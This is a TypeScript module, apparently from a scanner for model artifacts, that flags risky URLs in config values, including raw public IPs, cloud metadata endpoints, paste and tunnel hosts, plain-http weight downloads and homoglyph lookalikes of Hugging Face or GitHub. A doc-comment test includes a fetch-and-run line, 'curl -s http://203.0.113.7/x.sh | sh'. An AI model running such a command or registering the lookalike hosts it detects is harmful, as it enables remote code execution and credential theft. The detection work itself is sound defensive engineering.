/**
 * Risky URLs in configuration values, judged on the host and scheme that Deno's WHATWG
 * `URL` parser reads (the parser loaders use too: `http://0x7f.1/` is `127.0.0.1`,
 * `http://3232235777/` is `192.168.1.1`, an IDN host is its punycode):
 *
 * - a public raw IP address (MA550). Loopback, private (RFC 1918, unique-local IPv6),
 *   link-local and CGNAT addresses are not: a config that names `http://127.0.0.1:8000`
 *   or `http://10.0.0.5/` points at a local server it deploys with, not at a download.
 *   Cloud metadata endpoints (`169.254.169.254`, `fd00:ec2::254`) are: nothing shipped
 *   with a model has reason to ask for instance credentials;
 * - a paste site (MA551), a URL shortener (MA552), a tunnel or request-capture host
 *   (MA553), an anonymous file host (MA554): the lists of `scanners/strings/hosts.ts`;
 * - a `file://` URL (MA555);
 * - plain `http://` for weights or code (MA556): a path ending in a weight, archive or
 *   script extension, or a key that names a download (`download_url`, `weights_url`,
 *   `checkpoint`);
 * - a lookalike of a model hub or code host (MA557): an IDN host whose letters fold to
 *   `huggingface.co` (`һuggingface.co` with a Cyrillic һ), a one-letter typo of the name
 *   (`hugginface.co`), or the real name used as a subdomain of another
 *   (`huggingface.co.example.net`).
 *
 * @module
 */

import { domainToUnicode } from "node:url";
import { FILE_DROP_HOSTS, PASTE_HOSTS, SHORTENER_HOSTS, TUNNEL_HOSTS } from "../strings/hosts.ts";
import type { IndicatorKind } from "../strings/checks.ts";
import type { ValueFinding } from "./types.ts";
import { isProseKey, keyWords } from "./key_names.ts";

/**
 * The kinds of second stage of the shared string checks (MA011) that these checks judge in a
 * config value, with the parsed URL and its key: a config scanner passes them as
 * `skipIndicators` to `checkString`, so that one URL gives one finding. (MA011 reports private
 * addresses and URLs in prose; in config values these checks do not, by design.)
 *
 * @example
 * ```ts
 * import assert from "node:assert/strict";
 * import { checkString } from "../strings/checks.ts";
 * import type { FindingReport } from "../../core/scanner.ts";
 * import { findRiskyUrls, URL_INDICATORS } from "./urls.ts";
 * const found: FindingReport[] = [];
 * const ctx = { report: (f: FindingReport) => found.push(f), matchBlacklist: () => undefined, scanNested: () => Promise.resolve() };
 * const value = "curl -s http://203.0.113.7/x.sh | sh";
 * await checkString(ctx, value, { what: "The value at $.setup", keyPath: "$.setup", skipIndicators: URL_INDICATORS });
 * assert.deepEqual(found.map((f) => f.details?.indicator), ["shell-pipe"]);
 * assert.deepEqual(findRiskyUrls(value, "setup").map((f) => f.rule), ["MA550"]);
 * ```
 */
export const URL_INDICATORS: readonly IndicatorKind[] = [
  "raw-ip-url",
  "paste-site",
  "url-shortener",
  "tunnel",
  "file-url",
];

/** URLs read from one value: a real value holds a handful; a value of thousands is a list to be bounded. */
export const MAX_URLS_PER_VALUE = 64;
/** Characters of a URL quoted in a message; the details hold the host. */
const MAX_QUOTED_URL = 200;

/** A scheme and what follows up to a space, a quote or a bracket. */
const URL_PATTERN = /\b[a-z][a-z0-9+.-]{1,15}:\/\/[^\s"'<>`\\|{}^]+/gi;

/**
 * The URLs in `value` that Deno's URL parser accepts, at most {@linkcode MAX_URLS_PER_VALUE}.
 *
 * @example
 * ```ts
 * import assert from "node:assert/strict";
 * import { urlsIn } from "./urls.ts";
 * assert.deepEqual(urlsIn("see https://hf.co/gpt2 and http://0x7f.1/x").map((url) => url.host), [
 *   "hf.co",
 *   "127.0.0.1",
 * ]);
 * ```
 */
export function urlsIn(value: string): URL[] {
  const urls: URL[] = [];
  for (const match of value.matchAll(URL_PATTERN)) {
    const text = match[0].replace(/[.,;:)\]]+$/, "");
    const url = URL.parse(text);
    if (url !== null) urls.push(url);
    if (urls.length >= MAX_URLS_PER_VALUE) break;
  }
  return urls;
}

/** Where an IP address leads: this machine or a private network (no download risk), a cloud metadata endpoint, or the internet. */
type IpReach = "local" | "metadata" | "public";

function ipv4Reach(octets: number[]): IpReach {
  const [a, b] = octets;
  if (a === 169 && b === 254) return octets[2] === 169 && octets[3] === 254 ? "metadata" : "local";
  const local = a === 0 || a === 10 || a === 127 || (a === 172 && b >= 16 && b <= 31) ||
    (a === 192 && b === 168) || (a === 100 && b >= 64 && b <= 127) || a >= 224;
  return local ? "local" : "public";
}

/** The eight 16-bit groups of a bracketed IPv6 host as the URL parser writes it (`[::ffff:7f00:1]`). */
function ipv6Groups(host: string): number[] | undefined {
  const text = host.slice(1, -1);
  const [head, tail] = text.includes("::") ? text.split("::") : [text, undefined];
  const parse = (part: string) => part === "" ? [] : part.split(":").map((group) => parseInt(group, 16));
  const front = parse(head);
  if (tail === undefined) return front.length === 8 ? front : undefined;
  const back = parse(tail);
  return [...front, ...new Array(8 - front.length - back.length).fill(0), ...back];
}

function ipv6Reach(groups: number[]): IpReach {
  if (groups.slice(0, 5).every((g) => g === 0) && groups[5] === 0xffff) {
    return ipv4Reach([groups[6] >> 8, groups[6] & 0xff, groups[7] >> 8, groups[7] & 0xff]);
  }
  if (groups.slice(0, 7).every((g) => g === 0) && groups[7] <= 1) return "local"; // :: and ::1
  if (groups[0] === 0xfd00 && groups[1] === 0xec2 && groups[7] === 0x254) return "metadata"; // AWS IMDS
  if ((groups[0] & 0xfe00) === 0xfc00 || (groups[0] & 0xffc0) === 0xfe80) return "local"; // unique local, link-local
  return "public";
}

/**
 * Where `hostname` (as `URL.hostname` gives it) leads when it is an IP address, or
 * `undefined` for a name.
 */
function ipReach(hostname: string): IpReach | undefined {
  if (hostname.startsWith("[")) {
    const groups = ipv6Groups(hostname);
    return groups === undefined ? undefined : ipv6Reach(groups);
  }
  const octets = /^(\d+)\.(\d+)\.(\d+)\.(\d+)$/.exec(hostname)?.slice(1).map(Number);
  return octets === undefined ? undefined : ipv4Reach(octets);
}

/** Whether `hostname` is `host` or one of its subdomains. */
const within = (hostname: string, hosts: readonly string[]) =>
  hosts.find((host) => hostname === host || hostname.endsWith(`.${host}`));

const isLocalName = (hostname: string) =>
  hostname === "localhost" || /\.(?:localhost|local|internal|lan|home\.arpa)$/.test(hostname);

/** Extensions of files a loader runs or deserializes: weights that may be pickles, archives, scripts. */
const WEIGHT_OR_CODE_EXTENSION =
  /\.(?:bin|pt|pth|ckpt|pkl|pickle|joblib|safetensors|gguf|ggml|onnx|h5|hdf5|keras|pb|tflite|npy|npz|msgpack|model|zip|tar|gz|tgz|bz2|xz|7z|whl|egg|py|sh|bash|ps1|bat|cmd|exe|dll|so|dylib|jar|js)$/i;
/**
 * Words of a key whose URL value is downloaded and loaded: `download_url`, `weights`,
 * `checkpoint`, `pretrained`, `resume_from`, `init_from`, `mirror`, `installer`. A key merely
 * ending in `_url` is not enough: `license_url`, `homepage_url` and `docs_url` are links for
 * people, and plain http:// in them is common and harmless.
 */
const DOWNLOAD_KEY_WORDS = new Set([
  "download",
  "downloads",
  "weights",
  "weight",
  "checkpoint",
  "checkpoints",
  "ckpt",
  "pretrained",
  "resume",
  "init",
  "mirror",
  "artifact",
  "artifacts",
  "script",
  "scripts",
  "installer",
  "package",
  "wheel",
]);
/** Words that make a `_url`/`_uri` key a download too: `model_url`, `tokenizer_uri`. */
const MODEL_WORDS = new Set(["model", "models", "tokenizer", "vocab", "adapter", "lora"]);

function isDownloadKey(key: string | undefined): boolean {
  if (key === undefined) return false;
  const words = keyWords(key);
  const last = words.at(-1);
  return words.some((word) => DOWNLOAD_KEY_WORDS.has(word)) ||
    ((last === "url" || last === "uri") && words.some((word) => MODEL_WORDS.has(word)));
}

/** Hosts that model loaders and installers fetch from, which lookalikes imitate. */
const IMITATED = [
  "huggingface.co",
  "hf.co",
  "github.com",
  "githubusercontent.com",
  "pytorch.org",
  "pypi.org",
];
/** The names of {@linkcode IMITATED} whose one-letter typos are checked (short ones have too many real neighbours). */
const TYPO_TARGETS = ["huggingface", "github", "githubusercontent", "pytorch"];

/** Letters from other scripts that render as Latin ones (Unicode confusables, the ones used in domain spoofs). */
const CONFUSABLES: Record<string, string> = {
  "а": "a",
  "е": "e",
  "о": "o",
  "р": "p",
  "с": "c",
  "у": "y",
  "х": "x",
  "і": "i",
  "ј": "j",
  "ԁ": "d",
  "һ": "h",
  "ɡ": "g",
  "ǥ": "g",
  "ս": "u",
  "υ": "u",
  "ο": "o",
  "ν": "v",
  "ҁ": "c",
  "ӏ": "l",
  "ⅼ": "l",
  "ı": "i",
  "ꜰ": "f",
  "ƒ": "f",
  "ɑ": "a",
  "ϲ": "c",
  "ɩ": "i",
  "ɦ": "h",
  "ɢ": "g",
  "ᴜ": "u",
  "ɴ": "n",
};

/** `hostname` with confusable letters and diacritics folded to ASCII. */
function skeleton(hostname: string): string {
  return [...domainToUnicode(hostname).normalize("NFKD").replace(/\p{M}/gu, "").toLowerCase()]
    .map((char) => CONFUSABLES[char] ?? char)
    .join("");
}

/** Whether `a` and `b` differ by one insertion, deletion, substitution or swap of neighbours. */
function oneEditApart(a: string, b: string): boolean {
  if (a === b || Math.abs(a.length - b.length) > 1) return false;
  let i = 0;
  while (i < a.length && i < b.length && a[i] === b[i]) i++;
  if (a.length === b.length) {
    return a.slice(i + 1) === b.slice(i + 1) ||
      (a[i] === b[i + 1] && a[i + 1] === b[i] && a.slice(i + 2) === b.slice(i + 2));
  }
  return a.length > b.length ? a.slice(i + 1) === b.slice(i) : a.slice(i) === b.slice(i + 1);
}

/** The imitated host `hostname` passes itself off as, or `undefined` when it is real or unrelated. */
function imitatedHost(hostname: string): string | undefined {
  if (within(hostname, IMITATED)) return undefined;
  if (hostname.includes("xn--")) {
    const folded = skeleton(hostname);
    const host = within(folded, IMITATED);
    if (host !== undefined) return host;
  }
  const labels = hostname.split(".");
  for (const host of IMITATED) {
    // The real name followed by more labels: `huggingface.co.example.net`, `github.com-login.io`.
    if (
      hostname.startsWith(`${host}.`) || hostname.startsWith(`${host}-`) || hostname.includes(`.${host}.`)
    ) {
      return host;
    }
  }
  const name = labels.at(-2);
  if (name !== undefined) {
    const target = TYPO_TARGETS.find((real) => oneEditApart(name, real));
    if (target !== undefined) return IMITATED.find((host) => host.startsWith(`${target}.`));
  }
  return undefined;
}

const quoted = (url: URL) => {
  const text = url.href.replace(/\/\/[^/@]*@/, "//");
  return text.length > MAX_QUOTED_URL ? `${text.slice(0, MAX_QUOTED_URL)}…` : text;
};

/** The risky hosts a URL can lead to, checked in this order; the first that matches is reported. */
const HOST_LISTS = [
  { rule: "MA554", list: FILE_DROP_HOSTS, what: "an anonymous file host" },
  { rule: "MA551", list: PASTE_HOSTS, what: "a paste site" },
  { rule: "MA552", list: SHORTENER_HOSTS, what: "a URL shortener" },
  { rule: "MA553", list: TUNNEL_HOSTS, what: "a tunnel or request-capture host" },
] as const;

/** The finding for one URL, or `undefined` when nothing about it is risky. */
function judgeUrl(url: URL, key: string | undefined): ValueFinding | undefined {
  const text = quoted(url);
  if (url.protocol === "file:") {
    if (url.pathname === "/" && url.hostname === "") return undefined; // `file:///` alone names the scheme, no file
    return {
      rule: "MA555",
      severity: "warning",
      message: `A file:// URL makes whatever reads the config open a local file: ${text}`,
      details: { url: text, path: decodeURIComponent(url.pathname) },
    };
  }
  const hostname = url.hostname.toLowerCase();
  if (hostname === "") return undefined;
  const reach = ipReach(hostname);
  if (reach === "public" || reach === "metadata") {
    const what = reach === "metadata" ? "a cloud instance metadata endpoint" : "a raw IP address";
    return {
      rule: "MA550",
      severity: reach === "metadata" ? "critical" : "warning",
      message: `A URL to ${what}, where no model hub or package index serves from: ${text}`,
      details: { url: text, host: hostname, reach },
    };
  }
  for (const { rule, list, what } of HOST_LISTS) {
    const host = within(hostname, list);
    if (host !== undefined) {
      return {
        rule,
        severity: "warning",
        message: `A URL to ${what} (${host}): ${text}`,
        details: { url: text, host: hostname, listed: host },
      };
    }
  }
  const imitated = imitatedHost(hostname);
  if (imitated !== undefined) {
    return {
      rule: "MA557",
      severity: "critical",
      message: `A URL to ${hostname}, which imitates ${imitated}: ${text}`,
      details: { url: text, host: hostname, imitates: imitated, unicode: domainToUnicode(hostname) },
    };
  }
  if (url.protocol === "http:" && reach === undefined && !isLocalName(hostname)) {
    const byExtension = WEIGHT_OR_CODE_EXTENSION.test(url.pathname);
    if (byExtension || isDownloadKey(key)) {
      return {
        rule: "MA556",
        severity: "warning",
        message: `Weights or code fetched over plain http://, which anyone on the path can replace: ${text}`,
        details: { url: text, host: hostname, reason: byExtension ? "extension" : "key" },
      };
    }
  }
  return undefined;
}

/**
 * The risky URLs in `value` (the value of `key`, which decides whether a plain `http://` URL
 * is a download): one finding per URL, at most one per rule and host.
 *
 * @example
 * ```ts
 * import assert from "node:assert/strict";
 * import { findRiskyUrls } from "./urls.ts";
 * assert.deepEqual(findRiskyUrls("http://203.0.113.9/model.bin").map((f) => f.rule), ["MA550"]);
 * assert.deepEqual(findRiskyUrls("https://xn--uggingface-nzj.co/gpt2").map((f) => f.rule), ["MA557"]);
 * assert.deepEqual(findRiskyUrls("http://example.com/pytorch_model.bin").map((f) => f.rule), ["MA556"]);
 * assert.deepEqual(findRiskyUrls("https://huggingface.co/gpt2 http://127.0.0.1:8000/v1"), []);
 * ```
 */
export function findRiskyUrls(value: string, key?: string): ValueFinding[] {
  if (isProseKey(key)) return [];
  const found = new Map<string, ValueFinding>();
  for (const url of urlsIn(value)) {
    const finding = judgeUrl(url, key);
    if (finding === undefined) continue;
    const id = `${finding.rule} ${finding.details.host ?? finding.details.url}`;
    if (!found.has(id)) found.set(id, finding);
  }
  return [...found.values()];
}
